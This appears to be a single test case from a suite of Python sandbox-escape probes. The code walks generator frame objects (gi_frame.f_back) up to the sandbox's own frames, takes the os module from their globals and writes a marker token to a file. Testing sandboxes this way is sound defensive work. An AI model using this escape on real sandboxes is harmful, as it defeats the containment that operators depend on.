# id: intro-frames-gi-frame
# category: introspection
# description: a running generator's gi_frame.f_back is its caller; walk f_back up to the sandbox's own frames and take os from their globals
# source: the talk's "remaining 20 %"; frame objects are how Python's own debuggers see the stack (CPython data model, frame objects)
# detect: token (the token lands in OUT)
# talk: L6


def walk():
    yield me.gi_frame.f_back


me = walk()
frame = next(me)
os_module = None
while frame is not None and os_module is None:
    for value in list(frame.f_globals.values()):
        if getattr(value, '__name__', None) in ('os', 'posix') and hasattr(value, 'O_WRONLY'):
            os_module = value
            break
    frame = frame.f_back
fd = os_module.open(OUT, os_module.O_WRONLY | os_module.O_CREAT | os_module.O_TRUNC, 0o644)
os_module.write(fd, TOKEN.encode())
os_module.close(fd)
